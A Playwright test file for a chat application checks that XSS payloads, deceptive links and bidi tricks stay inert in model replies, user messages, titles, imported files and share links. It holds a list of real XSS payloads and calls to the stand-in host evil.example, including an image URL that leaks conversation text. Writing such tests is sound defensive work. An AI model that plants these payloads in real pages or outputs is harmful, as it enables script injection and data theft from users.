import type { Page } from '@playwright/test';
import { expect, test } from './support/app';

/**
 * Hostile content through every channel it can arrive by: model output, the person's own message,
 * a conversation title, an imported file and a share link. Nothing may execute, open a dialog,
 * or reach a host other than the app's own; remote images wait for a click.
 */
export const PAYLOADS: [name: string, markdown: string][] = [
  ['script tag', '<script>window.__pwned=1;alert(1)</script>'],
  ['img onerror', '<img src=x onerror="window.__pwned=1;alert(1)">'],
  ['svg onload', '<svg onload="window.__pwned=1"><circle r="5"/></svg>'],
  ['iframe', '<iframe srcdoc="<script>parent.__pwned=1</script>" src="https://evil.example/frame"></iframe>'],
  ['javascript: link', '[click me](javascript:window.__pwned=1)'],
  ['javascript: link with entity', '[click me too](jav&#x09;ascript:alert(1))'],
  ['data: link', '[open data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['vbscript: link', '[vb](vbscript:msgbox(1))'],
  ['raw HTML anchor', '<a href="javascript:alert(1)">html link</a>'],
  ['javascript: image', '![js image](javascript:alert(1))'],
  ['remote image (leak)', '![tracking pixel](https://evil.example/leak.png?secret=conversation-text)'],
  ['reference-style link', '[ref link][evil]\n\n[evil]: javascript:alert(1)'],
  ['reference-style image', '![ref image][pix]\n\n[pix]: https://evil.example/ref.png'],
  ['javascript: autolink', '<javascript:alert(1)>'],
  ['remote autolink', '<https://evil.example/auto>'],
  ['deceptive link text', '[https://bank.example/login](https://evil.example/login)'],
  ['bidi override in link text', '[\u202Egnp.exe](https://evil.example/bidi)'],
  ['zero-width in link text', '[paypal\u200B.com](https://evil.example/zw)'],
  ['style tag', '<style>*{background:url(https://evil.example/css.png)}</style>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['form', '<form action="https://evil.example/f"><button>go</button></form>'],
  ['object and embed', '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">'],
  ['stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['base tag', '<base href="https://evil.example/">'],
  ['inline style', '<div style="background:url(https://evil.example/div.png)">styled</div>'],
];

const DOC = PAYLOADS.map(([, md]) => md).join('\n\n');
const ONE_LINE = PAYLOADS.map(([, md]) => md.replace(/\n+/g, ' ')).join(' ');

interface Watch {
  dialogs: string[];
  external: string[];
  errors: string[];
}

function watch(page: Page, origin: string): Watch {
  const w: Watch = { dialogs: [], external: [], errors: [] };
  page.on('dialog', (d) => {
    w.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith(origin) && !/^(data|blob):/.test(url)) w.external.push(url);
  });
  page.on('pageerror', (e) => w.errors.push(e.message));
  return w;
}

/** `inner` inside any of the comma-separated `scope` selectors. */
const within = (scope: string, inner: string): string =>
  scope
    .split(',')
    .map((part) => `${part.trim()} ${inner}`)
    .join(', ');

/** Everything a channel must satisfy, checked inside `scope` (the rendered conversation or preview). */
async function expectInert(page: Page, w: Watch, scope: string): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(w.dialogs).toEqual([]);
  expect(w.external).toEqual([]);
  const dangerous = await page
    .locator(scope)
    .evaluateAll((roots) =>
      roots.flatMap((root) =>
        [
          ...root.querySelectorAll(
            'script, iframe, object, embed, form, meta, base, link, style, svg[onload], [onerror], [onload], [onclick], [style*="url("]',
          ),
        ].map((e) => e.outerHTML.slice(0, 80)),
      ),
    );
  expect(dangerous).toEqual([]);
  const anchors = await page.locator(within(scope, 'a[href]')).evaluateAll((as) =>
    as.map((a) => ({
      href: a.getAttribute('href') ?? '',
      target: a.getAttribute('target'),
      rel: a.getAttribute('rel') ?? '',
      html: a.outerHTML.slice(0, 200),
    })),
  );
  for (const a of anchors) {
    expect(a.href, a.html).toMatch(/^(https?:|mailto:|#)/);
    expect(a.target).toBe('_blank');
    expect(a.rel).toContain('noopener');
    expect(a.rel).toContain('noreferrer');
  }
  const remoteImages = await page
    .locator(within(scope, 'img'))
    .evaluateAll((imgs) => imgs.map((i) => i.getAttribute('src') ?? '').filter((s) => !/^(data|blob):/.test(s)));
  expect(remoteImages).toEqual([]);
  expect(w.errors).toEqual([]);
}

/** The markdown channels: dangerous links are inert text, deceptive ones show where they go. */
async function expectLinksDefused(page: Page, scope: string): Promise<void> {
  const root = page.locator(scope);
  await expect(root.getByTestId('blocked-link').filter({ hasText: 'click me' }).first()).toBeVisible();
  await expect(root.getByTestId('blocked-link').filter({ hasText: 'open data' }).first()).toBeVisible();
  await expect(root.getByTestId('blocked-link').filter({ hasText: /^vb$/ }).first()).toBeVisible();
  await expect(root.getByRole('button', { name: /Load image “tracking pixel” from evil\.example/ }).first()).toBeVisible();
  const deceptive = root.getByRole('link', { name: 'https://bank.example/login' }).first();
  await expect(deceptive).toHaveAttribute('href', 'https://evil.example/login');
  await expect(root.getByTestId('link-real-host').filter({ hasText: 'evil.example' }).first()).toBeVisible();
  await expect(root.getByRole('link', { name: '⟨U+202E⟩gnp.exe' }).first()).toBeVisible();
  await expect(root.getByRole('link', { name: 'paypal⟨U+200B⟩.com' }).first()).toBeVisible();
  // Raw HTML is shown as the text it is.
  await expect(root.getByText('<script>window.__pwned=1;alert(1)</script>').first()).toBeVisible();
}

function chatFile(): string {
  const t = 1_700_000_000_000;
  const msg = (id: string, parentId: string | null, role: string, text: string, i: number) => ({
    id,
    parentId,
    role,
    content: [{ type: 'text', text }],
    status: 'done',
    createdAt: t + i,
    updatedAt: t + i,
  });
  return JSON.stringify({
    format: 'chat-playground',
    version: 2,
    conversations: [
      {
        id: 'hostile-1',
        title: ONE_LINE,
        createdAt: t,
        updatedAt: t + 10,
        currentLeafId: 'h-a',
        params: { model: 'ref-chat', values: {}, enabled: { stream: true }, extraBody: '' },
        endpoint: { baseURL: 'javascript:alert(1)', name: '<img src=x onerror=alert(1)>' },
        messages: [msg('h-s', null, 'system', DOC, 1), msg('h-u', 'h-s', 'user', DOC, 2), msg('h-a', 'h-u', 'assistant', DOC, 3)],
      },
    ],
    blobs: {},
  });
}

const CONVERSATION = '[data-testid="message-content"]';
test.describe.configure({ timeout: 90_000 });

test('hostile content: model output and the user message', async ({ app, page, baseURL }) => {
  const w = watch(page, new URL(baseURL!).origin);
  await app.open();
  await app.sendAndWait(`${DOC.replace(/\n\n/g, '\n')}\n\n[[reply:${DOC}]]`);
  const reply = app.assistant();
  await expect(reply).toHaveAttribute('data-status', 'done');
  await expectLinksDefused(page, '[data-role="assistant"] [data-testid="message-content"]');
  // The person's own message is plain text: every payload reads as written.
  await expect(app.messages.first().getByTestId('message-content')).toContainText('<img src=x onerror="window.__pwned=1;alert(1)">');
  await expectInert(page, w, CONVERSATION);

  // Clicking a dangerous link does nothing.
  await reply.getByTestId('blocked-link').filter({ hasText: 'click me' }).first().click();
  await expect(page).toHaveURL(new RegExp(`^${new URL(baseURL!).origin}/`));
  await expectInert(page, w, CONVERSATION);

  // A remote image loads only when the person asks for it.
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({
      status: 200,
      contentType: 'image/png',
      body: Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64'),
    }),
  );
  await reply.getByRole('button', { name: /Load image “tracking pixel”/ }).click();
  await expect(reply.locator('img[alt="tracking pixel"]')).toBeVisible();
  await expect.poll(() => w.external).toEqual(['https://evil.example/leak.png?secret=conversation-text']);
  expect(await reply.locator('img[alt="tracking pixel"]').getAttribute('referrerpolicy')).toBe('no-referrer');
});

test('hostile content: a conversation title', async ({ app, page, baseURL }) => {
  const w = watch(page, new URL(baseURL!).origin);
  await app.open();
  await app.sendAndWait('Name me [[reply:ok]]');
  await app.library.action('Name me', 'Rename');
  const title = page.getByRole('textbox', { name: 'Conversation title' });
  await title.fill(ONE_LINE);
  await title.press('Enter');
  await expect(app.conversations.first()).toContainText('<script>window.__pwned=1;alert(1)</script>');
  await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toContainText('<img src=x onerror=');
  await page.reload();
  await expect(app.conversations.first()).toContainText('<svg onload=');
  await expectInert(page, w, '[data-testid="conversation-item"], main h1');
});

test('a title with bidi controls is isolated and shows its controls instead of obeying them', async ({ app, page }) => {
  await app.open();
  const marker = `bidi-title ${Date.now()}`;
  await app.sendAndWait(`${marker} [[reply:ok]]`);
  await app.library.action(marker, 'Rename');
  const title = page.getByRole('textbox', { name: 'Conversation title' });
  // An override that would show "invoice‮fdp.exe" as "invoiceexe.pdf", and an isolate left open.
  await title.fill('invoice\u202Efdp.exe \u2067open isolate');
  await title.press('Enter');
  const check = async () => {
    for (const shown of [
      app.conversations.first().getByTestId('conversation-title'),
      page.getByRole('main').getByRole('heading', { level: 1 }),
    ]) {
      const bdi = shown.locator('bdi[dir="auto"]');
      await expect(bdi).toHaveText('invoice⟨U+202E⟩fdp.exe ⟨U+2067⟩open isolate');
      expect(await bdi.evaluate((el) => /[\u202A-\u202E\u2066-\u2069]/.test(el.textContent ?? ''))).toBe(false);
    }
  };
  await check();
  await page.reload();
  await check();
});

test('hostile content: an imported file, then a share link of it', async ({ app, page, baseURL }) => {
  const w = watch(page, new URL(baseURL!).origin);
  await app.open();
  await app.share.importFile('hostile.chat.json', chatFile());
  await expect(app.messages).toHaveCount(3);
  await expect(app.assistant()).toHaveAttribute('data-status', 'done');
  await expectLinksDefused(page, '[data-role="assistant"] [data-testid="message-content"]');
  await expectLinksDefused(page, '[data-role="system"] [data-testid="message-content"]');
  await expect(app.conversations.first()).toContainText('<script>window.__pwned=1;alert(1)</script>'); // the title, as text
  await expectInert(page, w, `${CONVERSATION}, [data-testid="conversation-item"], main h1`);
  // The imported endpoint with a javascript: URL is not taken.
  await expect(page.getByTestId('endpoint-base-url')).not.toHaveValue(/javascript/);

  const link = await app.share.link();
  await page.keyboard.press('Escape');
  await app.wipeStorage();
  await page.goto(link);
  const preview = page.getByTestId('share-preview');
  await expect(preview).toBeVisible();
  await expect(preview).toContainText('<script>window.__pwned=1;alert(1)</script>');
  await expectLinksDefused(page, '[data-testid="share-preview"] [data-role="assistant"]');
  await expectInert(page, w, '[data-testid="share-preview-message"]');
  await page.getByTestId('share-save-button').click();
  await expect(app.conversations).toHaveCount(1);
  await expectInert(page, w, CONVERSATION);
});

test('the Content-Security-Policy forbids inline script, inline handlers and eval', async ({ app, page }) => {
  const served = await (await page.request.get('/')).text();
  const csp = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(served)?.[1] ?? '';
  const scriptSrc = /script-src ([^;]+)/.exec(csp)?.[1] ?? '';
  expect(scriptSrc.trim()).toBe("'self'");
  expect(csp).toContain("object-src 'none'");
  expect(csp).toContain("base-uri 'self'");
  await app.open();
  const result = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.append(s);
    const d = document.createElement('div');
    d.innerHTML = '<img src="x" onerror="window.__handler = 1">';
    document.body.append(d);
    await new Promise((r) => setTimeout(r, 300));
    const w = window as unknown as { __inline?: number; __handler?: number };
    return { inline: w.__inline, handler: w.__handler, violations };
  });
  expect(result.inline).toBeUndefined();
  expect(result.handler).toBeUndefined();
  expect(result.violations.some((v) => v.startsWith('script-src'))).toBe(true);
});
